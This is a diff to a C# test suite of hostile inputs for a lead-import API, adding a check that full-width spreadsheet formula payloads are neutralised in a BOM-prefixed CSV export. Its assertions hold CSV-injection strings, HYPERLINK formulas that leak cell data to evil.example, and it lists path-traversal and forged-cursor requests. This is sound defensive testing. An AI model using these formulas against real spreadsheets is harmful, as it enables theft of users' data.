@@ -1,5 +1,6 @@
 using System.Text;
 using System.Text.Json.Nodes;
+using LeadFunctions.Csv;
 using LeadFunctions.Tests.Csv;
 using LeadFunctions.Tests.Faults;
 using static LeadFunctions.Tests.Corpus.CorpusSend;
@@ -46,6 +47,8 @@ public static class HostileInputs
         // Lead text that is hostile but legitimate data: stored exactly as written, harmless where it is shown.
         new("formula payloads in every field", Upload(() => File("formula-payloads.csv")),
             new Expectation.Batch("completed", 3, 0) { Then = FormulasAreKeptAndNeutralisedOnExportAsync }),
+        new("full-width formula payloads, exported for Excel with a BOM", Upload(() => File("fullwidth-formulas.csv")),
+            new Expectation.Batch("completed", 2, 0) { Then = FullWidthFormulasAreNeutralisedInTheBomExportAsync }),
         new("prompt injection in bios and names", Upload(() => File("prompt-injection.csv")),
             new Expectation.Batch("completed", 4, 0) { Then = InjectionDoesNotSteerTheAiAsync }),
         new("unicode names", Upload(() => File("unicode-names.csv")),
@@ -102,6 +105,7 @@ public static class HostileInputs
         new("results with a forged cursor", Get("/api/leads/results?cursor=eyJhIjoiYiJ9"), new Expectation.Problem(400, "cursor")),
         new("results with a negative min_score", Get("/api/leads/results?min_score=-5"), new Expectation.Problem(400, "min_score")),
         new("results with an unknown intent", Get("/api/leads/results?intent=Urgent"), new Expectation.Problem(400, "intent")),
+        new("export with bom=maybe", Get("/api/leads/export_csv?bom=maybe"), new Expectation.Problem(400, "bom")),
         new("a lead id of 2,000 characters", Get("/api/leads/" + new string('a', 2000)), new Expectation.Problem(404)),
         new("a batch id with encoded slashes", Get("/api/batches/..%2F..%2Foffer"), new Expectation.Problem(404)),
     ];
@@ -136,8 +140,22 @@ public static class HostileInputs
         var export = await context.Http.GetStringAsync($"/api/leads/export_csv?batch_id={batch.Batch["batch_id"]}");
         var cells = export.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(SplitCells).ToList();
         Assert.Equal(3 * 8, cells.Count);
-        Assert.DoesNotContain(cells, cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && LeadCsvExportWriter.FormulaCharacters.Contains(cell[0]));
         Assert.Contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", cells);
+    }
+
+    private static async Task FullWidthFormulasAreNeutralisedInTheBomExportAsync(CorpusContext context, SettledBatch batch)
+    {
+        var bytes = await context.Http.GetByteArrayAsync($"/api/leads/export_csv?batch_id={batch.Batch["batch_id"]}&bom=true");
+
+        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "no UTF-8 BOM at the start of a bom=true export");
+        var export = Encoding.UTF8.GetString(bytes.AsSpan(Encoding.UTF8.Preamble.Length));
+        Assert.StartsWith("Name,Role,", export, StringComparison.Ordinal);
+        var cells = export.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(SplitCells).ToList();
+        Assert.Equal(2 * 8, cells.Count);
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && LeadCsvExportWriter.FormulaCharacters.Contains(cell[0]));
+        Assert.Contains("'\uFF1DHYPERLINK(\"http://evil.example/?leak=\"&A1)", cells);
+        Assert.Contains("Zo\u00EB \u00C5ngstr\u00F6m", cells);
     }
 
     private static Task InjectionDoesNotSteerTheAiAsync(CorpusContext context, SettledBatch batch)
